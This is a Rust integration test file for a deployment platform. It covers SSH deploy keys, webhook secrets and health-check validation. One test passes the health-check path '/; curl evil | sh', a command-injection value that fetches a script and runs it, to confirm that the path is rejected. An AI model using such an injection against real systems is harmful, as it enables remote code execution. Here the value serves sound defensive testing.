//! What else belongs to an application: its deploy key, webhook settings and health check.

use entities::{deploy_keys, health_checks, webhooks};
use ployer_server::services;
use ployer_tests::{error_code, error_field, spawn_app, spawn_app_with, TestApp};
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};
use serde_json::{json, Value};

const DEPLOY_KEY: &str = "query($id: ID!) { application(id: $id) { deployKey { publicKey fingerprint createdAt } } }";
const REGENERATE: &str =
    "mutation($id: ID!) { regenerateDeployKey(input: {applicationId: $id}) { deployKey { publicKey fingerprint createdAt } } }";

async fn deploy_key(app: &TestApp, token: &str, id: &str) -> Value {
    let r = app.graphql_as(token, DEPLOY_KEY, json!({ "id": id })).await;
    assert!(r["errors"].is_null(), "{r}");
    r["data"]["application"]["deployKey"].clone()
}

/// Checks a deploy key as shown: an OpenSSH ed25519 public key whose SHA-256 fingerprint
/// is the one shown next to it.
fn assert_valid_deploy_key(key: &Value) {
    let public = key["publicKey"].as_str().unwrap_or_else(|| panic!("{key}"));
    assert!(public.starts_with("ssh-ed25519 AAAA"), "{public}");
    let parsed = ssh_key::PublicKey::from_openssh(public).expect("an OpenSSH public key");
    assert_eq!(parsed.algorithm(), ssh_key::Algorithm::Ed25519);
    let fingerprint = key["fingerprint"].as_str().unwrap();
    assert!(fingerprint.starts_with("SHA256:"), "{fingerprint}");
    assert_eq!(parsed.fingerprint(ssh_key::HashAlg::Sha256).to_string(), fingerprint);
}

#[tokio::test]
async fn an_ssh_repository_gets_a_deploy_key_and_an_https_one_does_not() {
    let app = spawn_app().await;
    let token = app.admin_token().await;
    let ssh = app
        .create_git_app(&token, "ssh-app", "git@github.com:org/repo.git")
        .await;
    let ssh_url = app
        .create_git_app(&token, "ssh-url-app", "ssh://git@github.com/org/repo.git")
        .await;
    let https = app
        .create_git_app(&token, "https-app", "https://github.com/org/repo.git")
        .await;

    let key = deploy_key(&app, &token, &ssh).await;
    assert_valid_deploy_key(&key);
    assert!(key["createdAt"].is_string());
    let other = deploy_key(&app, &token, &ssh_url).await;
    assert_valid_deploy_key(&other);
    assert_ne!(key["publicKey"], other["publicKey"], "each application has its own key");
    assert_eq!(deploy_key(&app, &token, &https).await, Value::Null);
    assert_eq!(app.count(deploy_keys::Entity).await, 2);

    // A key is made when an application moves to an SSH source.
    let r = app
        .graphql_as(
            &token,
            "mutation($id: ID!) { updateApplication(input: {id: $id, gitUrl: \"git@gitlab.com:org/repo.git\"}) { application { deployKey { fingerprint } } } }",
            json!({ "id": https }),
        )
        .await;
    assert!(
        r["data"]["updateApplication"]["application"]["deployKey"]["fingerprint"].is_string(),
        "{r}"
    );
    assert_eq!(app.count(deploy_keys::Entity).await, 3);
}

#[tokio::test]
async fn regenerating_a_deploy_key_replaces_it() {
    let app = spawn_app().await;
    let token = app.admin_token().await;
    let ssh = app
        .create_git_app(&token, "ssh-app", "git@github.com:org/repo.git")
        .await;
    let https = app
        .create_git_app(&token, "https-app", "https://github.com/org/repo.git")
        .await;
    let before = deploy_key(&app, &token, &ssh).await;

    let r = app.graphql_as(&token, REGENERATE, json!({ "id": ssh })).await;
    let returned = r["data"]["regenerateDeployKey"]["deployKey"].clone();
    assert_valid_deploy_key(&returned);
    assert_ne!(returned["publicKey"], before["publicKey"]);
    assert_ne!(returned["fingerprint"], before["fingerprint"]);
    assert_eq!(deploy_key(&app, &token, &ssh).await, returned);
    assert_eq!(app.count(deploy_keys::Entity).await, 1, "the old key is gone");
    // The stored private key is the new one.
    let row = deploy_keys::Entity::find()
        .filter(deploy_keys::Column::ApplicationId.eq(ssh.clone()))
        .one(&app.state.db)
        .await
        .unwrap()
        .unwrap();
    let private = services::deploy_keys::private_key(&app.state.crypto, &row).unwrap();
    let private = ssh_key::PrivateKey::from_openssh(private.as_bytes()).unwrap();
    assert_eq!(
        private.public_key().fingerprint(ssh_key::HashAlg::Sha256).to_string(),
        returned["fingerprint"].as_str().unwrap()
    );

    let r = app.graphql_as(&token, REGENERATE, json!({ "id": https })).await;
    assert_eq!(error_code(&r), Some("BAD_USER_INPUT"), "{r}");
    assert_eq!(error_field(&r), Some("applicationId"), "{r}");
    assert_eq!(app.count(deploy_keys::Entity).await, 1);
    assert_eq!(deploy_key(&app, &token, &https).await, Value::Null);
}

#[tokio::test]
async fn no_field_of_the_api_carries_a_private_key() {
    let app = spawn_app().await;
    let token = app.admin_token().await;
    let r = app
        .graphql_as(
            &token,
            "{ __type(name: \"DeployKey\") { fields { name } } }",
            Value::Null,
        )
        .await;
    let mut fields: Vec<&str> = r["data"]["__type"]["fields"]
        .as_array()
        .unwrap_or_else(|| panic!("{r}"))
        .iter()
        .map(|f| f["name"].as_str().unwrap())
        .collect();
    fields.sort();
    assert_eq!(fields, ["createdAt", "fingerprint", "publicKey"]);
    let schema = app
        .graphql_as(&token, "{ __schema { types { name fields { name } } } }", Value::Null)
        .await
        .to_string()
        .to_lowercase();
    assert!(!schema.contains("privatekey"), "no type has a private key field");
    assert!(!schema.contains("ciphertext") && !schema.contains("nonce"));

    let id = app
        .create_git_app(&token, "ssh-app", "git@github.com:org/repo.git")
        .await;
    let regenerated = app.graphql_as(&token, REGENERATE, json!({ "id": id })).await;
    let read = app.graphql_as(&token, DEPLOY_KEY, json!({ "id": id })).await;
    for text in [regenerated.to_string(), read.to_string()] {
        assert!(!text.contains("PRIVATE KEY"), "{text}");
    }
}

#[tokio::test]
async fn moving_to_an_https_source_drops_the_deploy_key() {
    // `deployKey` is "present when the git URL uses SSH"; a key left behind would be a
    // credential nothing needs.
    let app = spawn_app().await;
    let token = app.admin_token().await;
    let id = app
        .create_git_app(&token, "ssh-app", "git@github.com:org/repo.git")
        .await;
    let r = app
        .graphql_as(
            &token,
            "mutation($id: ID!) { updateApplication(input: {id: $id, gitUrl: \"https://github.com/org/repo.git\"}) { application { gitUrl } } }",
            json!({ "id": id }),
        )
        .await;
    assert!(r["errors"].is_null(), "{r}");
    assert_eq!(deploy_key(&app, &token, &id).await, Value::Null);
}

const ENABLE: &str = "mutation($id: ID!, $provider: WebhookProvider!) {
    enableWebhook(input: {applicationId: $id, provider: $provider}) { url secret webhook { id provider url enabled createdAt updatedAt } } }";
const WEBHOOKS: &str =
    "query($id: ID!) { application(id: $id) { webhooks { id provider url enabled createdAt updatedAt } } }";

fn assert_secret_shape(secret: &str) {
    assert_eq!(secret.len(), 64, "{secret}");
    assert!(
        secret.bytes().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b)),
        "{secret}"
    );
}

/// The secret stored for a webhook, as the delivery handler will read it.
async fn stored_secret(app: &TestApp, webhook_id: &str) -> String {
    let row = webhooks::Entity::find_by_id(webhook_id.to_string())
        .one(&app.state.db)
        .await
        .unwrap()
        .unwrap();
    services::webhooks::secret(&app.state.crypto, &row).unwrap()
}

#[tokio::test]
async fn a_webhook_is_enabled_with_a_secret_shown_once_rotated_and_disabled() {
    let app = spawn_app_with(|c| c.public_url = Some("https://ployer.example.com/".into())).await;
    let token = app.admin_token().await;
    let id = app.create_git_app(&token, "hooked", "https://github.com/o/r.git").await;

    let r = app
        .graphql_as(&token, ENABLE, json!({ "id": id, "provider": "GITHUB" }))
        .await;
    let payload = r["data"]["enableWebhook"].clone();
    let webhook_id = payload["webhook"]["id"]
        .as_str()
        .unwrap_or_else(|| panic!("{r}"))
        .to_string();
    let url = format!("https://ployer.example.com/webhooks/github/{webhook_id}");
    assert_eq!(payload["url"], url.as_str());
    assert_eq!(payload["webhook"]["url"], url.as_str());
    assert_eq!(payload["webhook"]["provider"], "GITHUB");
    assert_eq!(payload["webhook"]["enabled"], true);
    let secret = payload["secret"].as_str().unwrap().to_string();
    assert_secret_shape(&secret);
    assert_eq!(stored_secret(&app, &webhook_id).await, secret);

    let listed = app.graphql_as(&token, WEBHOOKS, json!({ "id": id })).await;
    assert_eq!(listed["data"]["application"]["webhooks"], json!([payload["webhook"]]));
    assert!(!listed.to_string().contains(&secret), "the secret is shown once");

    let r = app
        .graphql_as(
            &token,
            "mutation($id: ID!) { rotateWebhookSecret(input: {id: $id}) { url secret webhook { id enabled } } }",
            json!({ "id": webhook_id }),
        )
        .await;
    let rotated = r["data"]["rotateWebhookSecret"]["secret"]
        .as_str()
        .unwrap_or_else(|| panic!("{r}"))
        .to_string();
    assert_secret_shape(&rotated);
    assert_ne!(rotated, secret);
    assert_eq!(r["data"]["rotateWebhookSecret"]["url"], url.as_str());
    assert_eq!(r["data"]["rotateWebhookSecret"]["webhook"]["id"], webhook_id.as_str());
    assert_eq!(
        stored_secret(&app, &webhook_id).await,
        rotated,
        "the old secret stopped working"
    );

    // Another provider is another webhook; enabling the same one again keeps its id.
    let r = app
        .graphql_as(&token, ENABLE, json!({ "id": id, "provider": "GITLAB" }))
        .await;
    assert!(
        r["data"]["enableWebhook"]["url"]
            .as_str()
            .unwrap_or_else(|| panic!("{r}"))
            .contains("/webhooks/gitlab/"),
        "{r}"
    );
    let r = app
        .graphql_as(&token, ENABLE, json!({ "id": id, "provider": "GITHUB" }))
        .await;
    assert_eq!(r["data"]["enableWebhook"]["webhook"]["id"], webhook_id.as_str(), "{r}");
    assert_ne!(r["data"]["enableWebhook"]["secret"], rotated.as_str());
    assert_eq!(app.count(webhooks::Entity).await, 2);

    let r = app
        .graphql_as(
            &token,
            "mutation($id: ID!) { disableWebhook(input: {id: $id}) { webhook { id enabled } } }",
            json!({ "id": webhook_id }),
        )
        .await;
    assert_eq!(
        r["data"]["disableWebhook"]["webhook"],
        json!({ "id": webhook_id, "enabled": false }),
        "{r}"
    );
    let listed = app.graphql_as(&token, WEBHOOKS, json!({ "id": id })).await;
    let github = listed["data"]["application"]["webhooks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|w| w["provider"] == "GITHUB")
        .unwrap()
        .clone();
    assert_eq!(github["enabled"], false);

    for mutation in [
        "mutation($id: ID!) { rotateWebhookSecret(input: {id: $id}) { secret } }",
        "mutation($id: ID!) { disableWebhook(input: {id: $id}) { webhook { id } } }",
    ] {
        let r = app
            .graphql_as(&token, mutation, json!({ "id": "no-such-webhook" }))
            .await;
        assert_eq!(error_code(&r), Some("NOT_FOUND"), "{r}");
    }
}

const CONFIGURE: &str = "mutation($i: ConfigureHealthCheckInput!) { configureHealthCheck(input: $i) {
    healthCheck { kind path port intervalSeconds timeoutSeconds healthyThreshold unhealthyThreshold startPeriodSeconds autoRestart } } }";

async fn health_check(app: &TestApp, token: &str, id: &str) -> Value {
    let r = app
        .graphql_as(
            token,
            "query($id: ID!) { application(id: $id) { healthCheck { kind path port intervalSeconds timeoutSeconds healthyThreshold unhealthyThreshold startPeriodSeconds autoRestart } } }",
            json!({ "id": id }),
        )
        .await;
    assert!(r["errors"].is_null(), "{r}");
    r["data"]["application"]["healthCheck"].clone()
}

#[tokio::test]
async fn health_check_settings_are_stored() {
    let app = spawn_app().await;
    let token = app.admin_token().await;
    let id = app
        .create_git_app(&token, "checked", "https://github.com/o/r.git")
        .await;

    let r = app
        .graphql_as(
            &token,
            CONFIGURE,
            json!({ "i": {
                "applicationId": id, "path": "/healthz?full=1", "intervalSeconds": 30, "timeoutSeconds": 3,
                "healthyThreshold": 2, "unhealthyThreshold": 5, "autoRestart": false,
            } }),
        )
        .await;
    let expected = json!({
        "kind": "HTTP", "path": "/healthz?full=1", "port": null, "intervalSeconds": 30, "timeoutSeconds": 3,
        "healthyThreshold": 2, "unhealthyThreshold": 5, "startPeriodSeconds": 10, "autoRestart": false,
    });
    assert_eq!(r["data"]["configureHealthCheck"]["healthCheck"], expected, "{r}");
    assert_eq!(health_check(&app, &token, &id).await, expected);
    assert_eq!(app.count(health_checks::Entity).await, 1);

    // Only what is named changes; the bounds are inclusive.
    let r = app
        .graphql_as(
            &token,
            CONFIGURE,
            json!({ "i": { "applicationId": id, "port": 9090, "startPeriodSeconds": 600, "intervalSeconds": 3600, "timeoutSeconds": 60 } }),
        )
        .await;
    assert!(r["errors"].is_null(), "{r}");
    let mut expected = expected;
    expected["port"] = json!(9090);
    expected["startPeriodSeconds"] = json!(600);
    expected["intervalSeconds"] = json!(3600);
    expected["timeoutSeconds"] = json!(60);
    assert_eq!(health_check(&app, &token, &id).await, expected);

    // TCP only: the path goes; back to HTTP, a default path returns. A null port clears it.
    let r = app
        .graphql_as(
            &token,
            CONFIGURE,
            json!({ "i": { "applicationId": id, "tcpOnly": true } }),
        )
        .await;
    assert!(r["errors"].is_null(), "{r}");
    let tcp = health_check(&app, &token, &id).await;
    assert_eq!((&tcp["kind"], &tcp["path"]), (&json!("TCP"), &Value::Null), "{tcp}");
    let r = app
        .graphql_as(
            &token,
            CONFIGURE,
            json!({ "i": { "applicationId": id, "tcpOnly": false, "port": null } }),
        )
        .await;
    assert!(r["errors"].is_null(), "{r}");
    let http = health_check(&app, &token, &id).await;
    assert_eq!(
        (&http["kind"], &http["path"], &http["port"]),
        (&json!("HTTP"), &json!("/"), &Value::Null),
        "{http}"
    );
}

#[tokio::test]
async fn bad_health_check_settings_are_refused_naming_the_field_and_change_nothing() {
    let app = spawn_app().await;
    let token = app.admin_token().await;
    let id = app
        .create_git_app(&token, "checked", "https://github.com/o/r.git")
        .await;
    let before = health_check(&app, &token, &id).await;
    for (input, field) in [
        (json!({ "intervalSeconds": 1 }), "intervalSeconds"),
        (json!({ "intervalSeconds": 4000 }), "intervalSeconds"),
        (json!({ "intervalSeconds": -5 }), "intervalSeconds"),
        (json!({ "timeoutSeconds": 0 }), "timeoutSeconds"),
        (
            json!({ "timeoutSeconds": 61, "intervalSeconds": 120 }),
            "timeoutSeconds",
        ),
        // The default interval is 10: a timeout as long is refused, and a shorter interval too.
        (json!({ "timeoutSeconds": 10 }), "timeoutSeconds"),
        (json!({ "intervalSeconds": 5, "timeoutSeconds": 5 }), "timeoutSeconds"),
        (json!({ "intervalSeconds": 4 }), "timeoutSeconds"),
        (json!({ "healthyThreshold": 0 }), "healthyThreshold"),
        (json!({ "healthyThreshold": 11 }), "healthyThreshold"),
        (json!({ "unhealthyThreshold": 0 }), "unhealthyThreshold"),
        (json!({ "unhealthyThreshold": 11 }), "unhealthyThreshold"),
        (json!({ "startPeriodSeconds": -1 }), "startPeriodSeconds"),
        (json!({ "startPeriodSeconds": 601 }), "startPeriodSeconds"),
        (json!({ "path": "healthz" }), "path"),
        (json!({ "path": "/health z" }), "path"),
        (json!({ "path": "" }), "path"),
        (json!({ "path": "/a\nb" }), "path"),
        (json!({ "path": "/; curl evil | sh" }), "path"),
        (json!({ "path": format!("/{}", "a".repeat(300)) }), "path"),
        (json!({ "port": 0 }), "port"),
        (json!({ "port": 70000 }), "port"),
        (json!({ "tcpOnly": true, "path": "/healthz" }), "path"),
        // A good value next to a bad one is not stored either.
        (
            json!({ "autoRestart": false, "healthyThreshold": 99 }),
            "healthyThreshold",
        ),
    ] {
        let mut input = input;
        input["applicationId"] = json!(id);
        let r = app.graphql_as(&token, CONFIGURE, json!({ "i": input.clone() })).await;
        assert_eq!(error_code(&r), Some("BAD_USER_INPUT"), "{input}: {r}");
        assert_eq!(error_field(&r), Some(field), "{input}: {r}");
        assert_eq!(health_check(&app, &token, &id).await, before, "unchanged after {input}");
    }
    assert_eq!(app.count(health_checks::Entity).await, 1);
}
